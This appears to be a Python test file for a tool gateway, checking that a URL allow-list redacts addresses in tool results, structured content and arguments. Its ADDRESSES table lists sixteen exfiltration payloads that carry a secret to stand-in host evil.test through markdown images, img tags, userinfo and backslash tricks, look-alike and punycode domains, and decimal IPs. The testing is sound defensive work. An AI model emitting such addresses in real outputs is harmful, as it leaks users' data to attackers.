"""XB-5: an address carries data away, in a result or in an argument, in every form that a client follows.

Mutation: without `redaction.url_allow` the addresses come through, as the addresses in
`tests/gateway/test_definitions.py` that only that rule takes out.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest

from tests.security.exfiltration import SMALL, WAYS, Way, call, last, nowhere, settled, subject, taken_out
from tests.system.deployment import Deployment
from tests.system.recorder import Recorder, definition

SECRET = "d-is-for-data-7f3a9c"

LOOKS_ALIKE = "\u0430llowed.test"
"""With a Cyrillic letter."""

ADDRESSES = {
    "picture": f"![x](https://evil.test/?d={SECRET})",
    "link": f"[click](https://evil.test/{SECRET})",
    "reference": f"see [this][1]\n\n[1]: https://evil.test/?d={SECRET}\n",
    "img": f'<img src="https://evil.test/?d={SECRET}">',
    "img unquoted": f"<img src=//evil.test/?d={SECRET}>",
    "bare": f"look at https://evil.test/?d={SECRET} now",
    "userinfo": f"https://allowed.test@evil.test/?d={SECRET}",
    "backslash": f"https://evil.test\\@allowed.test/?d={SECRET}",
    "port": f"https://evil.test:8443/?d={SECRET}",
    "case": f"HTTPS://EVIL.TEST/?d={SECRET}",
    "look-alike": f"https://{LOOKS_ALIKE}/?d={SECRET}",
    "punycode": f"https://{LOOKS_ALIKE.encode('idna').decode()}/?d={SECRET}",
    "subdomain": f"https://allowed.test.evil.test/?d={SECRET}",
    "label": f"https://{SECRET}.evil.test/",
    "address": f"http://203.0.113.7/?d={SECRET}",
    "decimal address": f"http://3405803783/?d={SECRET}",
}

FINE = (
    "read [the docs](https://allowed.test/a?b=c#d), https://www.allowed.test/ and "
    '<img src="https://allowed.test:443/x.png"> or mail ![y](/relative/z.png) evil.test'
)


@pytest.fixture(scope="module")
def upstream() -> Iterator[Recorder]:
    tools = {name: definition(name) for name in ("say", "structured", "echo")}
    with Recorder(tools=tools) as recorder:
        yield recorder


@pytest.fixture(scope="module")
def gateway(tmp_path_factory: pytest.TempPathFactory, upstream: Recorder) -> Iterator[Deployment]:
    servers = [{"name": "notes", "transport": "http", "url": upstream.url, "sensitivity": "low"}]
    rules = {"url_allow": ["allowed.test", "*.allowed.test"]}
    folder = tmp_path_factory.mktemp("xb5")
    with Deployment(folder, servers, workers=1, redaction=rules, audit=SMALL) as deployment:
        yield deployment


def result_of(gateway: Deployment, way: Way, tool: str, who: str, **arguments: Any) -> dict[str, Any]:
    return last(call(gateway, way, f"notes__{tool}", gateway.token(who), arguments))["result"]


@pytest.mark.parametrize("way", WAYS, ids=str)
def test_an_address_in_a_result_leads_nowhere_and_the_rest_stays(
    gateway: Deployment, upstream: Recorder, way: Way
) -> None:
    who = subject()
    for name, address in ADDRESSES.items():
        upstream.results["say"] = {"content": [{"type": "text", "text": f"before {address} after"}]}
        said = result_of(gateway, way, "say", who)["content"][0]["text"]
        assert SECRET not in said, name
        assert "[REDACTED:url]" in said, name
        assert said.startswith("before "), name
        assert said.endswith(" after"), name
    rows = taken_out(gateway, who, len(ADDRESSES))
    assert {row["reason"] for row in rows} == {"url_blocked"}
    assert all(row["redaction_count"] >= 1 for row in rows)
    hosts = {host for row in rows for host in row["metadata"]["hosts"]}
    assert {"evil.test", "*.evil.test", "203.0.113.7"} <= hosts
    assert "allowed.test" not in hosts
    nowhere(gateway, SECRET)


@pytest.mark.parametrize("way", WAYS, ids=str)
def test_an_address_in_structured_content_or_an_error_leads_nowhere(
    gateway: Deployment, upstream: Recorder, way: Way
) -> None:
    who = subject()
    upstream.results["structured"] = {
        "content": [{"type": "resource_link", "uri": f"https://evil.test/{SECRET}", "name": "a"}],
        "structuredContent": {"list": [ADDRESSES["bare"]]},
    }
    result = result_of(gateway, way, "structured", who)
    assert SECRET not in str(result)
    assert result["structuredContent"] == {"list": ["look at [REDACTED:url] now"]}
    assert taken_out(gateway, who)[0]["metadata"]["hosts"] == ["evil.test"]


@pytest.mark.parametrize("way", WAYS, ids=str)
def test_an_address_in_an_argument_is_not_sent(gateway: Deployment, upstream: Recorder, way: Way) -> None:
    who = subject()
    for address in ADDRESSES.values():
        result_of(gateway, way, "echo", who, text=f"{who} before {address} after")
    texts = [message["params"]["arguments"].get("text", "") for message in upstream.calls()]
    sent = [text for text in texts if text.startswith(who)]
    assert len(sent) == len(ADDRESSES)
    assert all(SECRET not in text and "[REDACTED:url]" in text and text.endswith(" after") for text in sent)
    assert {row["reason"] for row in taken_out(gateway, who, len(ADDRESSES))} == {"url_blocked"}
    nowhere(gateway, SECRET)


@pytest.mark.parametrize("way", WAYS, ids=str)
def test_allowed_addresses_and_plain_words_pass(gateway: Deployment, upstream: Recorder, way: Way) -> None:
    who = subject()
    upstream.results["say"] = {"content": [{"type": "text", "text": FINE}]}
    assert result_of(gateway, way, "say", who)["content"][0]["text"] == FINE
    result_of(gateway, way, "echo", who, text=f"{who} {FINE}")
    assert any(message["params"]["arguments"].get("text") == f"{who} {FINE}" for message in upstream.calls())
    settled(gateway, who, 2)
    assert gateway.rows("SELECT 1 FROM audit_events WHERE subject=? AND action='redact_data'", who) == []
